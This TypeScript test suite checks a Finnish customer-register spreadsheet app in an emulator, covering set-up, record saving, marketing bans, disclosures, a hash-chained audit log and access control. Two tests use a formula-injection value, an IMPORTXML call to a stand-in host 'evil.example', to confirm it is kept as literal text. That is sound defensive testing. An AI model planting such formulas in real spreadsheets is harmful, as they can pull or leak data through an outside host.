/**
 * The register through the built bundle in the emulator: set-up, search, read, create, edit,
 * actions, disclosures, the marketing list, the audit chain, manual edits and access.
 */
import { auditEntries as supportAuditEntries } from '../support/register';
import * as path from 'node:path';
import { Emulator } from '../../src/emulator/app';
import { OWNER, STAFF, OUTSIDER } from '../../src/emulator/accounts';
import { verifyChain, AuditEntry } from '../../src/core/audit';
import { sha256Hex } from '../../src/core/sha256';
import { scriptRuntime } from '../support/emulator';
import { call, demo, failure } from '../support/register';

const dist = path.resolve(__dirname, '../../dist');

const auditEntries = (em: Emulator): AuditEntry[] => supportAuditEntries(em);

const maija = {
  name: 'Maija Meikäläinen', email: ' Maija.Meikalainen@Example.FI ', phone: '040 123 4567', street: 'Hämeenkatu 1 A 2',
  postalCode: '00100', city: 'Tampere', country: 'FI', marketingBasis: 'consent', marketingConsentAt: '2026-11-01',
};

describe('set-up', () => {
  test('set-up on an empty spreadsheet creates the tabs with Finnish headers and makes the caller the first admin', () => {
    const em = Emulator.open({ distDir: dist, stateFile: null, fresh: true });
    const result = call<{ createdTabs: string[]; firstAdmin: string }>(em, 'setUp', {}, OWNER);
    expect(result.createdTabs).toEqual(['Rekisteri', 'Pyynnöt', 'Luovutukset', 'Lokitiedot']);
    expect(result.firstAdmin).toBe(OWNER);
    const register = em.world.spreadsheet.snapshot('Rekisteri')!;
    expect((register.values[0] as string[]).slice(0, 3)).toEqual(['Asiakasnumero', 'Asiakas vai sidosryhmä', 'Asiakastyyppi']);
    // The tab is protected to key personnel, its header row to admins.
    expect(register.protections).toEqual([
      expect.objectContaining({ range: null, editors: [OWNER], warningOnly: false }),
      expect.objectContaining({ range: 'A1:AA1', editors: [OWNER], warningOnly: false }),
    ]);
    // The search key is the software's own column: hidden from people.
    expect(register.hiddenColumns).toEqual([(register.values[0] as string[]).indexOf('Hakuavain') + 1]);
    expect(em.world.triggers.map((t) => t.handlerFunction)).toEqual(['onRegisterEdit', 'runNightly', 'onRegisterChange', 'pollInbox']);
  });

  test('set-up in Swedish names the tabs and headers in Swedish', () => {
    const em = Emulator.open({ distDir: dist, stateFile: null, fresh: true });
    call(em, 'setUp', { language: 'sv' }, OWNER);
    expect(em.world.spreadsheet.sheetNames()).toEqual(expect.arrayContaining(['Register', 'Begäranden', 'Utlämnanden', 'Logg']));
  });

  test('running set-up again repairs a missing column and leaves every data cell as it was', () => {
    const em = demo();
    const before = em.world.spreadsheet.snapshot('Rekisteri')!.values;
    const sheet = em.world.spreadsheet.snapshot('Rekisteri')!;
    const col = (sheet.values[0] as string[]).indexOf('Postitoimipaikka') + 1;
    expect(em.editCell(OWNER, 'Rekisteri', 1, col, 'Kaupunki').ok).toBe(true);
    // The on-edit trigger saw the header change; the next write reads the header and stops.
    expect(failure(em, 'saveCustomer', { customer: maija })).toMatch(/puuttuu sarake: Postitoimipaikka/);
    const result = call<{ addedColumns: string[] }>(em, 'setUp', {}, OWNER);
    expect(result.addedColumns).toEqual(['Rekisteri: Postitoimipaikka']);
    const after = em.world.spreadsheet.snapshot('Rekisteri')!.values;
    for (let r = 1; r < before.length; r++) expect(after[r].slice(0, before[r].length)).toEqual(before[r]);
  });

  test('an editor who is not the owner cannot make themselves admin by running the first set-up', () => {
    const em = Emulator.open({ distDir: dist, stateFile: null, fresh: true });
    const message = failure(em, 'setUp', {}, STAFF);
    expect(message).toMatch(/tekee taulukon omistaja/);
    expect(em.world.properties.document).toEqual({});
    expect(call<{ firstAdmin: string }>(em, 'setUp', {}, OWNER).firstAdmin).toBe(OWNER);
  });

  test('staff can type into the register but not into its header row, which only admins may change', () => {
    const em = demo();
    const nameCol = (em.world.spreadsheet.snapshot('Rekisteri')!.values[0] as string[]).indexOf('Nimi') + 1;
    expect(em.editCell(STAFF, 'Rekisteri', 1, nameCol, 'Etunimi').ok).toBe(false);
    expect(em.editCell(STAFF, 'Rekisteri', 2, nameCol, 'Uusi Nimi').ok).toBe(true);
    const protections = em.world.spreadsheet.snapshot('Rekisteri')!.protections;
    expect(protections[0].editors).toEqual(expect.arrayContaining([OWNER, STAFF]));
    expect(protections[1].editors).not.toContain(STAFF);
  });

  test('only an admin may run set-up again', () => {
    expect(failure(demo(), 'setUp', {}, STAFF)).toMatch(/vain ylläpitäjille/);
  });
});

describe('search, read and save', () => {
  test('search finds people by partial name, accent-insensitively', () => {
    const em = demo();
    const created = call<{ customer: { customerNumber: string } }>(em, 'saveCustomer', { customer: maija });
    const { customers } = call<{ customers: { customerNumber: string }[] }>(em, 'searchCustomers', { query: 'meikala' });
    expect(customers.map((c) => c.customerNumber)).toContain(created.customer.customerNumber);
    const byPhone = call<{ customers: { customerNumber: string }[] }>(em, 'searchCustomers', { query: '0401234567' });
    expect(byPhone.customers.map((c) => c.customerNumber)).toContain(created.customer.customerNumber);
  });

  test('a new person is normalised, numbered after the seeded ones, and stored literally', () => {
    const em = demo();
    const { customer } = call<{ customer: Record<string, unknown> }>(em, 'saveCustomer', { customer: maija });
    expect(customer).toMatchObject({ customerNumber: '100201', email: 'Maija.Meikalainen@example.fi', phone: '+358401234567', postalCode: '00100', version: 1 });
    const got = call<{ customer: Record<string, unknown> }>(em, 'getCustomer', { customerNumber: '100201' });
    expect(got.customer).toEqual(customer);
  });

  test('creating a person whose email is registered returns the existing record instead of a duplicate', () => {
    const em = demo();
    const first = call<{ customer: { customerNumber: string } }>(em, 'saveCustomer', { customer: maija });
    const again = call<{ customer: { customerNumber: string }; duplicate: boolean }>(em, 'saveCustomer', {
      customer: { ...maija, email: 'MAIJA.MEIKALAINEN@example.fi', phone: '' },
    });
    expect(again.duplicate).toBe(true);
    expect(again.customer.customerNumber).toBe(first.customer.customerNumber);
  });

  test('an internationalised address is kept as typed, and the same mailbox in its xn-- form is a duplicate (either way round)', () => {
    const em = demo();
    const first = call<{ customer: { customerNumber: string; email: string } }>(em, 'saveCustomer', { customer: { name: 'Anna Hyvä', email: 'Anna@Hyvä.FI' } });
    expect(first.customer.email).toBe('Anna@hyvä.fi');
    const again = call<{ customer: { customerNumber: string }; duplicate: boolean }>(em, 'saveCustomer', { customer: { name: 'Anna H', email: 'anna@xn--hyv-sla.fi' } });
    expect(again.duplicate).toBe(true);
    expect(again.customer.customerNumber).toBe(first.customer.customerNumber);
    const kalle = call<{ customer: { customerNumber: string } }>(em, 'saveCustomer', { customer: { name: 'Kalle', email: 'kalle@xn--land-poa.ax' } });
    const same = call<{ customer: { customerNumber: string }; duplicate: boolean }>(em, 'saveCustomer', { customer: { name: 'Kalle Å', email: 'Kalle@åland.ax' } });
    expect(same.duplicate).toBe(true);
    expect(same.customer.customerNumber).toBe(kalle.customer.customerNumber);
    const found = call<{ customers: { customerNumber: string }[] }>(em, 'searchCustomers', { query: 'hyvä.fi' });
    expect(found.customers.map((h) => h.customerNumber)).toContain(first.customer.customerNumber);
  });

  test('customer numbers are never reused, even after the last row is deleted', () => {
    const em = demo();
    const a = call<{ customer: { customerNumber: string } }>(em, 'saveCustomer', { customer: maija });
    // The owner deletes that person's row by hand.
    const rows = em.world.spreadsheet.snapshot('Rekisteri')!.values as unknown[][];
    const row = rows.findIndex((r) => r[0] === a.customer.customerNumber) + 1;
    const deleted = scriptRuntime(`function del() { SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Rekisteri').deleteRow(${row}); }`, em.world).execute('del', [], { user: OWNER });
    expect(deleted.ok).toBe(true);
    expect((em.world.spreadsheet.snapshot('Rekisteri')!.values as unknown[][]).some((r) => r[0] === a.customer.customerNumber)).toBe(false);
    const b = call<{ customer: { customerNumber: string } }>(em, 'saveCustomer', { customer: { name: 'Toinen Henkilö' } });
    expect(Number(b.customer.customerNumber)).toBe(Number(a.customer.customerNumber) + 1);
  });

  test('a stale edit is refused and nothing is overwritten', () => {
    const em = demo();
    const { customer } = call<{ customer: Record<string, unknown> & { customerNumber: string; version: number } }>(em, 'getCustomer', { customerNumber: '100001' }, STAFF);
    call(em, 'saveCustomer', { customer: { ...customer, city: 'Turku' }, expectedVersion: customer.version }, OWNER);
    const message = failure(em, 'saveCustomer', { customer: { ...customer, city: 'Oulu' }, expectedVersion: customer.version }, STAFF);
    expect(message).toMatch(/muutettiin sillä välin/);
    expect(call<{ customer: { city: string; version: number } }>(em, 'getCustomer', { customerNumber: '100001' }).customer).toMatchObject({ city: 'Turku', version: customer.version + 1 });
  });

  test('bad input is refused with a message naming the field, and nothing is written', () => {
    const em = demo();
    const before = JSON.stringify(em.world.spreadsheet.snapshot('Rekisteri')!.values);
    expect(failure(em, 'saveCustomer', { customer: { ...maija, email: 'ei-osoite' } })).toMatch(/Sähköposti: /);
    expect(JSON.stringify(em.world.spreadsheet.snapshot('Rekisteri')!.values)).toBe(before);
  });

  test('a formula-like name is stored as literal text, never as a formula', () => {
    const em = demo();
    const { customer } = call<{ customer: { customerNumber: string; name: string } }>(em, 'saveCustomer', { customer: { name: '=IMPORTXML("http://evil.example","//a")' } });
    expect(customer.name).toBe('=IMPORTXML("http://evil.example","//a")');
    const snap = em.world.spreadsheet.snapshot('Rekisteri')!;
    expect(snap.formulas.flat().filter((f) => f !== '')).toEqual([]);
    expect(call<{ customer: { name: string } }>(em, 'getCustomer', { customerNumber: customer.customerNumber }).customer.name).toBe(customer.name);
  });
});

describe('actions, disclosures and the marketing list', () => {
  test('a marketing ban removes the person from the marketing list', () => {
    const em = demo();
    const { customer } = call<{ customer: { customerNumber: string; email: string } }>(em, 'saveCustomer', { customer: maija });
    expect(call<{ csv: string }>(em, 'exportMarketingList', {}).csv).toContain(customer.email);
    call(em, 'banMarketing', { customerNumber: customer.customerNumber });
    expect(call<{ csv: string }>(em, 'exportMarketingList', {}).csv).not.toContain(customer.email);
    // The search result carries the ban too.
    const { customers } = call<{ customers: { customerNumber: string; status: { banned: boolean } }[] }>(em, 'searchCustomers', { query: customer.customerNumber });
    expect(customers[0]).toMatchObject({ customerNumber: customer.customerNumber, status: { banned: true, restricted: false } });
  });

  test('a disclosure to a recipient outside the EU/EEA is refused without the written transfer request', () => {
    const em = demo();
    const message = failure(em, 'recordDisclosure', {
      customerNumber: '100001', recipient: 'Acme Inc.', recipientCountry: 'US', basis: 'consent', basisReference: 'REQ-1', dataCategories: ['name'],
    });
    expect(message).toMatch(/EU:n ja ETA:n ulkopuolella/);
    expect((em.world.spreadsheet.snapshot('Luovutukset')!.values as unknown[][]).filter((r) => r[0] !== '')).toHaveLength(1);
  });

  test('a disclosure with an authority basis is recorded and logged', () => {
    const em = demo();
    const { disclosure } = call<{ disclosure: { id: string } }>(em, 'recordDisclosure', {
      customerNumber: '100001', recipient: 'Poliisi', recipientCountry: 'FI', basis: 'authority', basisReference: 'POL-2026-123', dataCategories: ['name', 'phone'],
    });
    expect(disclosure.id).toMatch(/^D-/);
    expect(auditEntries(em).map((e) => `${e.action}:${e.fields}`)).toContain('disclosure:name,phone');
    const { disclosures } = call<{ disclosures: Record<string, string>[] }>(em, 'listDisclosures', { customerNumber: '100001' });
    expect(disclosures).toEqual([expect.objectContaining({ id: disclosure.id, recipient: 'Poliisi', basis: 'authority', basisReference: 'POL-2026-123', dataCategories: 'name,phone', recordedBy: STAFF })]);
    expect(call<{ disclosures: unknown[] }>(em, 'listDisclosures', { customerNumber: '100002' }).disclosures).toEqual([]);
  });
});

describe('the audit log', () => {
  test('every change is logged with actor, action, customer number and field names, never values, in a valid chain', () => {
    const em = demo();
    const { customer } = call<{ customer: { customerNumber: string; version: number } }>(em, 'saveCustomer', { customer: maija });
    call(em, 'saveCustomer', { customer: { customerNumber: customer.customerNumber, city: 'Helsinki' }, expectedVersion: customer.version });
    call(em, 'exportMarketingList', {});
    const entries = auditEntries(em);
    expect(entries.map((e) => e.action)).toEqual(['create', 'update', 'export-marketing']);
    expect(entries[1]).toMatchObject({ actor: STAFF, customerNumber: customer.customerNumber, fields: 'city' });
    expect(JSON.stringify(entries)).not.toMatch(/Helsinki|Meikäläinen|358401234567/);
    expect(verifyChain(entries, sha256Hex)).toEqual({ ok: true });
  });

  test('editing an audit cell by hand is undone and itself logged; the chain stays whole', () => {
    const em = demo();
    call(em, 'saveCustomer', { customer: maija });
    call(em, 'exportMarketingList', {});
    const before = auditEntries(em)[0];
    em.editCell(OWNER, 'Lokitiedot', 2, 2, 'someone@else.fi');
    const entries = auditEntries(em);
    expect(entries[0]).toEqual(before);
    expect(entries[entries.length - 1]).toMatchObject({ action: 'manual-edit', actor: OWNER, fields: 'auditLog' });
    expect(verifyChain(entries, sha256Hex)).toEqual({ ok: true });
  });

  test('a pasted change to the audit log cannot be undone, but is logged and breaks the chain where it was made', () => {
    const em = demo();
    call(em, 'saveCustomer', { customer: maija });
    call(em, 'exportMarketingList', {});
    // A paste is applied by Sheets, then the trigger fires for the whole range.
    const paste = scriptRuntime(
      `function paste() { SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Lokitiedot').getRange(2, 2, 1, 2).setValues([['someone@else.fi', 'update']]); }`,
      em.world,
    ).execute('paste', [], { user: OWNER });
    expect(paste.ok).toBe(true);
    const trigger = em.world.triggers.find((t) => t.handlerFunction === 'onRegisterEdit')!;
    em.runtime.execute('onRegisterEdit', [], {
      kind: 'installable-trigger', user: trigger.owner, effectiveUser: trigger.owner, triggerUid: trigger.uid,
      eventFactory: (g, exec) => {
        const ss = (g.SpreadsheetApp as { getActiveSpreadsheet(): { getSheetByName(n: string): { getRange(r: number, c: number, n: number, m: number): unknown } } }).getActiveSpreadsheet();
        const e = exec.guest.deep({ triggerUid: trigger.uid }) as Record<string, unknown>;
        e.source = ss;
        e.range = ss.getSheetByName('Lokitiedot').getRange(2, 2, 1, 2);
        e.user = { getEmail: () => OWNER };
        return e;
      },
    });
    const entries = auditEntries(em);
    expect(entries[entries.length - 1]).toMatchObject({ action: 'manual-edit', fields: 'auditLog' });
    expect(verifyChain(entries, sha256Hex)).toMatchObject({ ok: false, index: 0, reason: 'altered' });
  });
});

describe('manual edits in the register tab', () => {
  test('a valid manual edit is normalised, versioned and logged as a manual edit', () => {
    const em = demo();
    const sheet = em.world.spreadsheet.snapshot('Rekisteri')!;
    const header = sheet.values[0] as string[];
    const phoneCol = header.indexOf('Matkapuhelin') + 1;
    const versionBefore = (sheet.values[1] as unknown[])[header.indexOf('Versio')];
    const edit = em.editCell(STAFF, 'Rekisteri', 2, phoneCol, '050 765 4321');
    expect(edit.reports.every((r) => r.ok)).toBe(true);
    const after = em.world.spreadsheet.snapshot('Rekisteri')!.values[1] as unknown[];
    expect(after[phoneCol - 1]).toBe('+358507654321');
    expect(after[header.indexOf('Versio')]).toBe(Number(versionBefore) + 1);
    expect(auditEntries(em).pop()).toMatchObject({ action: 'manual-edit', actor: STAFF, customerNumber: '100001', fields: 'phone' });
  });

  test('a formula typed into the register is put back as it was and the editor is told why', () => {
    const em = demo();
    const header = em.world.spreadsheet.snapshot('Rekisteri')!.values[0] as string[];
    const emailCol = header.indexOf('Sähköposti') + 1;
    const before = (em.world.spreadsheet.snapshot('Rekisteri')!.values[1] as unknown[])[emailCol - 1];
    em.editCell(STAFF, 'Rekisteri', 2, emailCol, '=IMPORTXML("http://evil.example","//a")');
    const snap = em.world.spreadsheet.snapshot('Rekisteri')!;
    expect(snap.formulas.flat().filter((f) => f !== '')).toEqual([]);
    expect((snap.values[1] as unknown[])[emailCol - 1]).toBe(before);
    expect(em.world.uiFor(STAFF).toasts.length + em.world.uiFor(OWNER).toasts.length).toBeGreaterThan(0);
  });
});

describe('access', () => {
  const calls: [string, unknown][] = [
    ['searchCustomers', { query: 'a' }], ['getCustomer', { customerNumber: '100001' }], ['saveCustomer', { customer: maija }],
    ['exportMarketingList', {}], ['banMarketing', { customerNumber: '100001' }], ['getSidebarInfo', undefined],
    ['recordDisclosure', { customerNumber: '100001', recipient: 'X', recipientCountry: 'FI', basis: 'authority', basisReference: 'Y', dataCategories: ['name'] }],
  ];
  test.each(calls)('an outsider calling %s gets no data and changes nothing', (fn, arg) => {
    const em = demo();
    const before = JSON.stringify(em.world.spreadsheet.toJSON());
    const report = em.callFromClient(fn, arg === undefined ? [] : [arg], OUTSIDER);
    expect(report.ok).toBe(false);
    expect(report.error!.message).toMatch(/ei ole oikeutta|permission/);
    expect(JSON.stringify(report)).not.toMatch(/@gmail\.com|\+358\d/);
    expect(JSON.stringify(em.world.spreadsheet.toJSON())).toBe(before);
  });
});

describe('the audit log after rows were deleted from it by hand', () => {
  test('the next append still lands after the last entry, and the chain check shows the deletion', () => {
    const em = demo();
    call(em, 'saveCustomer', { customer: maija });
    call(em, 'exportMarketingList', {});
    // Someone deletes the first entry's row and every spare row under the log.
    const del = scriptRuntime(
      `function del() { var s = SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Lokitiedot'); s.deleteRow(2); s.deleteRows(3, s.getMaxRows() - 2); }`,
      em.world,
    ).execute('del', [], { user: OWNER });
    expect(del.ok).toBe(true);
    expect(em.world.spreadsheet.snapshot('Lokitiedot')!.maxRows).toBe(2);
    call(em, 'banMarketing', { customerNumber: '100001' });
    const entries = auditEntries(em);
    expect(entries.map((e) => e.action)).toEqual(['export-marketing', 'ban-marketing']);
    expect(entries[1].prevHash).toBe(entries[0].hash);
    expect(verifyChain(entries, sha256Hex)).toMatchObject({ ok: false, index: 0, reason: 'broken-link' });
  });
});

describe('a register set up in one language and used in another', () => {
  test('after switching the settings to English, a Finnish-headed register is searched and saved in the usual calls', () => {
    const em = demo();
    const { settings } = call<{ settings: Record<string, unknown> }>(em, 'getSettings', undefined, OWNER);
    call(em, 'saveSettings', { settings: { ...settings, language: 'en' } }, OWNER);
    const search = em.callFromClient('searchCustomers', [{ query: 'virtanen' }], STAFF);
    expect(search.ok).toBe(true);
    expect(search.calls).toBe(2);
    const { customer } = call<{ customer: { version: number } }>(em, 'getCustomer', { customerNumber: '100001' });
    const save = em.callFromClient('saveCustomer', [{ customer: { customerNumber: '100001', city: 'Lahti' }, expectedVersion: customer.version }], STAFF);
    expect(save.ok).toBe(true);
    // Eight, plus the invariant store's read and write (server/repair.ts).
    expect(save.calls).toBe(10);
    // Messages follow the new language.
    expect(em.callFromClient('getCustomer', [{ customerNumber: '999999' }], STAFF).error!.message).toMatch(/^No person has customer number 999999/);
  });
});

describe('a paste of several rows into the register', () => {
  test('each pasted row is validated and normalised, and the corrections are written in one call', () => {
    const em = demo();
    const header = em.world.spreadsheet.snapshot('Rekisteri')!.values[0] as string[];
    const phoneCol = header.indexOf('Matkapuhelin') + 1;
    // The paste itself (as Sheets applies it), then Sheets fires the on-edit trigger for the whole range.
    const paste = scriptRuntime(
      `function paste() { SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Rekisteri').getRange(2, ${phoneCol}, 3, 1).setValues([['040 111 2222'], ['=1+1'], ['050 333 4444']]); }`,
      em.world,
    ).execute('paste', [], { user: STAFF });
    expect(paste.ok).toBe(true);
    const trigger = em.world.triggers.find((t) => t.handlerFunction === 'onRegisterEdit')!;
    const report = em.runtime.execute('onRegisterEdit', [], {
      kind: 'installable-trigger', user: trigger.owner, effectiveUser: trigger.owner, triggerUid: trigger.uid,
      eventFactory: (g, exec) => {
        const ss = (g.SpreadsheetApp as { getActiveSpreadsheet(): { getSheetByName(n: string): { getRange(r: number, c: number, n: number, m: number): unknown } } }).getActiveSpreadsheet();
        const e = exec.guest.deep({}) as Record<string, unknown>;
        e.source = ss;
        e.range = ss.getSheetByName('Rekisteri').getRange(2, phoneCol, 3, 1);
        e.user = { getEmail: () => STAFF };
        return e;
      },
    });
    expect(report.ok).toBe(true);
    const rows = em.world.spreadsheet.snapshot('Rekisteri')!.values as unknown[][];
    expect(rows[1][phoneCol - 1]).toBe('+358401112222');
    expect(rows[3][phoneCol - 1]).toBe('+358503334444');
    // The typed formula is text now (refused as a phone, kept literal where the paste put it).
    expect(em.world.spreadsheet.snapshot('Rekisteri')!.formulas.flat().filter((f) => f !== '')).toEqual([]);
    // One write for the register rows, one for the audit entries, one for the invariant store.
    expect(report.byMethod['Range.setValues'].calls).toBe(3);
    expect(auditEntries(em).slice(-3).map((e) => `${e.action}:${e.customerNumber}:${e.fields}`)).toEqual([
      'manual-edit:100001:phone', 'manual-edit:100002:phone', 'manual-edit:100003:phone',
    ]);
  });
});

describe('review findings', () => {
  test('a ban and a restriction succeed even when the record holds a value today\'s rules refuse', () => {
    const em = demo();
    const header = em.world.spreadsheet.snapshot('Rekisteri')!.values[0] as string[];
    // An old landline typed in before the mobile rule (the owner types it; the trigger refuses and puts it back,
    // so write it the way an old import would have: into a register from before the invariant store,
    // which set-up then adopts as it stands; a value written only into the row is an unchecked hand edit).
    const landline = scriptRuntime(
      `function put() { const ss = SpreadsheetApp.getActiveSpreadsheet(); ss.getSheetByName('Rekisteri').getRange(2, ${header.indexOf('Matkapuhelin') + 1}).setValue("'09 1234 5678");
        ss.deleteSheet(ss.getSheetByName('Varmisteet')); PropertiesService.getDocumentProperties().deleteProperty('rekisteri.store'); }`,
      em.world,
    ).execute('put', [], { user: OWNER });
    expect(landline.ok).toBe(true);
    call(em, 'setUp', {}, OWNER);
    expect(call<{ customer: { marketingBannedAt: string } }>(em, 'banMarketing', { customerNumber: '100001' }).customer.marketingBannedAt).not.toBe('');
    const { customer } = call<{ customer: { version: number } }>(em, 'getCustomer', { customerNumber: '100001' });
    expect(call<{ customer: { restrictedAt: string } }>(em, 'restrictProcessing', { customerNumber: '100001', expectedVersion: customer.version, restricted: true }).customer.restrictedAt).not.toBe('');
    // A full edit still asks for the phone to be fixed.
    const again = call<{ customer: { version: number } }>(em, 'getCustomer', { customerNumber: '100001' }).customer;
    expect(failure(em, 'saveCustomer', { customer: { customerNumber: '100001', city: 'Oulu' }, expectedVersion: again.version })).toMatch(/Matkapuhelin/);
  });

  test('an edit cannot give a person another person\'s email', () => {
    const em = demo();
    const other = call<{ customer: { email: string } }>(em, 'getCustomer', { customerNumber: '100002' }).customer;
    const { customer } = call<{ customer: { version: number } }>(em, 'getCustomer', { customerNumber: '100001' });
    expect(failure(em, 'saveCustomer', { customer: { customerNumber: '100001', email: other.email }, expectedVersion: customer.version })).toMatch(/jo henkilöllä 100002/);
  });

  test('an authority outside Finland is not a basis: that needs the person\'s consent', () => {
    const em = demo();
    const message = failure(em, 'recordDisclosure', {
      customerNumber: '100001', recipient: 'Bundeskriminalamt', recipientCountry: 'DE', basis: 'authority', basisReference: 'BKA-1', dataCategories: ['name'],
    });
    expect(message).toMatch(/vain Suomen viranomaisille/);
  });

  test('a time zone Intl does not know is refused and the register keeps working', () => {
    const em = demo();
    expect(failure(em, 'saveSettings', { settings: { timeZone: 'Europe/Helsinkii' } }, OWNER)).toMatch(/Aikavyöhyke on tuntematon/);
    expect(call<{ customers: unknown[] }>(em, 'searchCustomers', { query: 'a' }).customers.length).toBeGreaterThan(0);
  });
});

describe('hand edits cannot undo what must not change', () => {
  const header = (em: Emulator) => em.world.spreadsheet.snapshot('Rekisteri')!.values[0] as string[];
  const fireEdit = (em: Emulator, row: number, col: number, rows: number, cols: number, user: string) => {
    const trigger = em.world.triggers.find((t) => t.handlerFunction === 'onRegisterEdit')!;
    return em.runtime.execute('onRegisterEdit', [], {
      kind: 'installable-trigger', user: trigger.owner, effectiveUser: trigger.owner, triggerUid: trigger.uid,
      eventFactory: (g, exec) => {
        const ss = (g.SpreadsheetApp as { getActiveSpreadsheet(): { getSheetByName(n: string): { getRange(r: number, c: number, n: number, m: number): unknown } } }).getActiveSpreadsheet();
        const e = exec.guest.deep({ triggerUid: trigger.uid }) as Record<string, unknown>;
        e.source = ss;
        e.range = ss.getSheetByName('Rekisteri').getRange(row, col, rows, cols);
        e.user = { getEmail: () => user };
        return e;
      },
    });
  };

  test('clearing the marketing-ban cell puts the ban back (an objection is for good)', () => {
    const em = demo();
    const { customer } = call<{ customer: { marketingBannedAt: string } }>(em, 'banMarketing', { customerNumber: '100001' });
    const col = header(em).indexOf('Markkinointikielto') + 1;
    expect(em.editCell(STAFF, 'Rekisteri', 2, col, '').ok).toBe(true);
    expect(call<{ customer: { marketingBannedAt: string } }>(em, 'getCustomer', { customerNumber: '100001' }).customer.marketingBannedAt).toBe(customer.marketingBannedAt);
    expect(call<{ csv: string }>(em, 'exportMarketingList', {}).csv).not.toContain(call<{ customer: { email: string } }>(em, 'getCustomer', { customerNumber: '100001' }).customer.email);
  });

  test('a paste over the ban column of several rows cannot lift a ban either', () => {
    const em = demo();
    const { customer } = call<{ customer: { marketingBannedAt: string } }>(em, 'banMarketing', { customerNumber: '100002' });
    const col = header(em).indexOf('Markkinointikielto') + 1;
    scriptRuntime(`function p() { SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Rekisteri').getRange(2, ${col}, 2, 1).setValues([[''], ['']]); }`, em.world).execute('p', [], { user: STAFF });
    expect(fireEdit(em, 2, col, 2, 1, STAFF).ok).toBe(true);
    expect(call<{ customer: { marketingBannedAt: string } }>(em, 'getCustomer', { customerNumber: '100002' }).customer.marketingBannedAt).toBe(customer.marketingBannedAt);
  });

  test('a paste over customer numbers is put back: no two people share a number, none disappears', () => {
    const em = demo();
    scriptRuntime(`function p() { SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Rekisteri').getRange(2, 1, 2, 1).setValues([['100005'], ['100005']]); }`, em.world).execute('p', [], { user: STAFF });
    expect(fireEdit(em, 2, 1, 2, 1, STAFF).ok).toBe(true);
    for (const n of ['100001', '100002', '100005']) expect(em.callFromClient('getCustomer', [{ customerNumber: n }], STAFF).ok).toBe(true);
    // Logged under the numbers the rows really have.
    expect(auditEntries(em).slice(-2).map((e) => e.customerNumber)).toEqual(['100001', '100002']);
  });
});

describe('the on-edit trigger has one owner', () => {
  test('a second admin running set-up installs no second trigger', () => {
    const em = demo();
    const { settings } = call<{ settings: { keyPersonnel: { email: string; role: string }[] } }>(em, 'getSettings', undefined, OWNER);
    call(em, 'saveSettings', { settings: { keyPersonnel: settings.keyPersonnel.map((p) => ({ ...p, role: 'admin' })) } }, OWNER);
    expect(call<{ installedTriggers: string[] }>(em, 'setUp', {}, STAFF).installedTriggers).toEqual([]);
    expect(em.world.triggers.filter((t) => t.handlerFunction === 'onRegisterEdit')).toHaveLength(1);
    // One hand edit: one version step, one log entry.
    const { customer } = call<{ customer: { version: number } }>(em, 'getCustomer', { customerNumber: '100001' });
    em.editCell(STAFF, 'Rekisteri', 2, (em.world.spreadsheet.snapshot('Rekisteri')!.values[0] as string[]).indexOf('Postitoimipaikka') + 1, 'Porvoo');
    expect(call<{ customer: { version: number } }>(em, 'getCustomer', { customerNumber: '100001' }).customer.version).toBe(customer.version + 1);
  });

  test('the trigger owner stays an admin until another admin takes the trigger over', () => {
    const em = demo();
    const both = [{ email: OWNER, role: 'admin' }, { email: STAFF, role: 'admin' }];
    call(em, 'saveSettings', { settings: { keyPersonnel: both } }, OWNER);
    expect(failure(em, 'saveSettings', { settings: { keyPersonnel: [{ email: OWNER, role: 'staff' }, { email: STAFF, role: 'admin' }] } }, STAFF)).toMatch(/omistaa rekisterin muokkausvalvonnan/);
  });
});

test('running set-up again keeps the remembered audit head, so rows cut from the log stay visible to the chain check', () => {
  const em = demo();
  call(em, 'saveCustomer', { customer: maija });
  call(em, 'exportMarketingList', {});
  const head = JSON.parse(em.world.properties.document['rekisteri.auditHead']) as { hash: string };
  scriptRuntime(`function del() { SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Lokitiedot').deleteRow(3); }`, em.world).execute('del', [], { user: OWNER });
  call(em, 'setUp', {}, OWNER);
  expect(JSON.parse(em.world.properties.document['rekisteri.auditHead']).hash).toBe(head.hash);
  expect(verifyChain(auditEntries(em), sha256Hex, head.hash)).toMatchObject({ ok: false });
});
